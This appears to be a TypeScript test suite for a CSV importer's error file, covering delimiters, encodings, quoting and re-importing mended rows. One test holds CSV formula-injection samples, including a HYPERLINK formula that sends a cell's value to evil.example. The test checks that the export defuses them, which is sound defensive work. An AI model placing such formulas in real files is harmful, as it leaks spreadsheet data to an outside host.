import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { type ImportBench, openImportBench } from '../../../test/fixtures/importing.ts'
import type { FileMapping, Mapping } from '../mapping/mapping.ts'
import { errorFile } from './error-file.ts'

let bench: ImportBench
before(async () => {
  bench = await openImportBench()
})
after(() => bench.close())

const fields = { first_name: 'first', last_name: 'last', email: 'email', phone: 'phone' }

function people(file: Partial<FileMapping> = {}): Mapping {
  const records: FileMapping['records'] = [{ object: 'customers', external_id: 'id', fields }]
  return { name: 'test', files: [{ file: 'c.csv', records, ...file }] }
}

async function importOnce(workspaceId: number, mapping: Mapping, content: string | Buffer) {
  const { importId, failure, rowsFailed } = await bench.run(workspaceId, mapping, { 'c.csv': content })
  assert.equal(failure, null)
  let errors = ''
  for await (const line of errorFile(bench.db, workspaceId, importId)) errors += line
  return { rowsFailed, errors }
}

async function customersOf(workspaceId: number): Promise<(string | null)[][]> {
  const rows = await bench.rows<{ first_name: string; last_name: string; phone: string | null }>(
    'SELECT first_name, last_name, phone FROM customers WHERE workspace_id = $1 ORDER BY id',
    [workspaceId],
  )
  return rows.map(({ first_name, last_name, phone }) => [first_name, last_name, phone])
}

const header = ['id', 'first', 'last', 'email', 'phone']
const row = ['1', 'Jürgen "J"; der, \\Große|', 'Lee', 'bad', '+49 30 1']

function written(delimiter: string, escaped = false): string {
  const text = (cell: string) => {
    const plain = escaped ? cell.replaceAll('\\', '\\\\') : cell
    return /[",;\t|\\]/.test(plain) ? `"${plain.replaceAll('"', '""')}"` : plain
  }
  return [header, row].map((cells) => `${cells.map(text).join(delimiter)}\r\n`).join('')
}

describe('the error file is mended and imported again under the same mapping', () => {
  const dialects: [
    name: string,
    mapping: Partial<FileMapping>,
    content: string | Buffer,
    firstLine: string,
  ][] = [
    ['with commas', {}, written(','), 'id,first,last,email,phone,file,line,column,reason'],
    ['with semicolons', {}, written(';'), 'id;first;last;email;phone;file;line;column;reason'],
    ['with semicolons that the mapping names', { delimiter: ';' }, written(';'), 'id;first;last'],
    ['with tabs', { delimiter: '\t' }, written('\t'), 'id\tfirst\tlast'],
    ['with upright strokes', {}, written('|'), 'id|first|last'],
    ['with a line that names the delimiter', {}, `sep=;\r\n${written(';')}`, 'sep=;'],
    ['in Windows-1252', { encoding: 'windows-1252' }, Buffer.from(written(','), 'latin1'), 'id,first'],
    ['in UTF-16', {}, Buffer.from(`\ufeff${written('\t')}`, 'utf16le'), 'id\tfirst\tlast'],
    ['with escaped quotation marks', { quote_escape: '\\' }, written(',', true), 'id,first,last'],
    ['below a title', {}, `People 2026\r\n\r\n${written(',')}`, 'id,first,last'],
  ]
  for (const [name, mapping, content, firstLine] of dialects) {
    test(name, async () => {
      const workspaceId = await bench.workspace()
      const { rowsFailed, errors } = await importOnce(workspaceId, people(mapping), content)
      assert.equal(rowsFailed, 1)
      assert.ok(errors.startsWith(`\ufeff${firstLine}`), errors)
      const again = await importOnce(workspaceId, people(mapping), errors)
      assert.equal(again.rowsFailed, 1)
      const mended = await importOnce(
        workspaceId,
        people(mapping),
        again.errors.replace('bad', 'j@example.com'),
      )
      assert.equal(mended.rowsFailed, 0, mended.errors)
      assert.deepEqual(await customersOf(workspaceId), [[row[1], 'Lee', '+49 30 1']])
    })
  }
})

describe('the error file', () => {
  test('holds no formula, and what was one is read again as it was', async () => {
    const workspaceId = await bench.workspace()
    const cells = ['1', '@SUM(1)', '-Lee', 'bad', '"=HYPERLINK(""http://evil.example/?x=""&A1)"']
    const { errors } = await importOnce(workspaceId, people(), `${header}\n${cells}\n`)
    for (const cell of errors.replace('\ufeff', '').split(/[,\r\n]+/))
      assert.doesNotMatch(cell, /^"?\s*[=+\-@\t]/)
    const { rowsFailed } = await importOnce(workspaceId, people(), errors.replace('bad', ''))
    assert.equal(rowsFailed, 0)
    const [customer] = await customersOf(workspaceId)
    assert.deepEqual(customer?.slice(0, 2), ['@SUM(1)', '-Lee'])
  })

  test('names its own columns otherwise where the file has such names', async () => {
    const workspaceId = await bench.workspace()
    const records: FileMapping['records'] = [
      { object: 'customers', external_id: ['line', 'file'], fields: { last_name: 'reason', email: 'email' } },
    ]
    const mapping = people({ records })
    const { errors } = await importOnce(workspaceId, mapping, 'line,file,reason,email\n1,A,Lee,bad\n')
    assert.match(errors, /^\ufeffline,file,reason,email,error_file,error_line,error_column,error_reason\r\n/)
    const again = await importOnce(workspaceId, mapping, errors.replace(',bad,', ',lee@example.com,'))
    assert.equal(again.rowsFailed, 0)
  })

  test('keeps a row refused that has not been mended: surplus cells, marks and bytes that could not be read', async () => {
    const rows = [
      '1,Ann,Lee,,1,surplus',
      '2,"Tom" Jones,Lee,,1',
      '3,J\ufffdrgen,Lee,,1',
      '4,A\0nn,Lee,,1',
      `5,${'x'.repeat(20_000)},Lee,bad,1`,
      'id,first,last,email,phone',
    ]
    const workspaceId = await bench.workspace()
    let content = `${header}\n${rows.join('\n')}\n`
    for (let round = 0; round < 3; round++) {
      const { rowsFailed, errors } = await importOnce(workspaceId, people(), content)
      assert.equal(rowsFailed, rows.length, errors)
      content = errors
    }
    assert.deepEqual(await customersOf(workspaceId), [])
  })

  test('is one for all files, each row under its own columns', async () => {
    const workspaceId = await bench.workspace()
    const records: FileMapping['records'] = [
      { object: 'companies', external_id: 'id', fields: { name: 'name' } },
    ]
    const mapping: Mapping = { name: 'test', files: [...people().files, { file: 'k.csv', records }] }
    const files = { 'c.csv': `${header}\n1,A,Lee,bad,1\n`, 'k.csv': 'id;name\n7;\n' }
    const { importId } = await bench.run(workspaceId, mapping, files)
    const lines: string[] = []
    for await (const line of errorFile(bench.db, workspaceId, importId))
      lines.push(line.split(',').slice(0, 8).join())
    assert.deepEqual(lines.slice(1), [
      'id,first,last,email,phone,name,file,line',
      '1,A,Lee,bad,1,,c.csv,2',
      '7,,,,,,k.csv,2',
    ])
  })

  test('takes an emoji at the place where a text is shortened', async () => {
    const workspaceId = await bench.workspace()
    const email = `${'x'.repeat(59)}😀😀😀`
    const { rowsFailed, errors } = await importOnce(workspaceId, people(), `${header}\n1,A,Lee,${email},1\n`)
    assert.equal(rowsFailed, 1)
    assert.ok(errors.includes(email))
  })
})

test('a row that is not mended stays refused, also where surplus cells are put back into a column', async () => {
  const workspaceId = await bench.workspace()
  const mapping = people({ unquoted_delimiters_in: 'phone' })
  const { errors } = await importOnce(workspaceId, mapping, 'id,first,last,email,phone\n1,"A" x,Lee,,1\n')
  const again = await importOnce(workspaceId, mapping, errors)
  assert.equal(again.rowsFailed, 1)
  assert.match(again.errors, /It is still as it was refused before: mend it/)
  assert.deepEqual(await customersOf(workspaceId), [])
})

test('rows that end with delimiters can be mended as they stand', async () => {
  const workspaceId = await bench.workspace()
  const { errors } = await importOnce(workspaceId, people(), 'id,first,last,email,phone\n1,A,Lee,bad,1,,\n')
  await importOnce(workspaceId, people(), errors.replace('bad', ''))
  assert.deepEqual(await customersOf(workspaceId), [['A', 'Lee', '1']])
})

test('a row without an id that was mended in the error file is the same in its own file', async () => {
  const workspaceId = await bench.workspace()
  const list: Mapping = {
    name: 'test',
    files: [
      { file: 'c.csv', records: [{ object: 'customers', fields: { last_name: 'last', email: 'email' } }] },
    ],
  }
  const own = 'last,email\nLee,worse\nMay,bad\n'
  const first = await importOnce(workspaceId, list, own)
  const second = await importOnce(workspaceId, list, first.errors.replace('bad', 'may@example.com'))
  await importOnce(workspaceId, list, second.errors.replace('worse', 'lee@example.com'))
  const mended = own.replace('worse', 'lee@example.com').replace('bad', 'may@example.com')
  assert.equal((await importOnce(workspaceId, list, mended)).rowsFailed, 0)
  assert.equal((await customersOf(workspaceId)).length, 2)
})
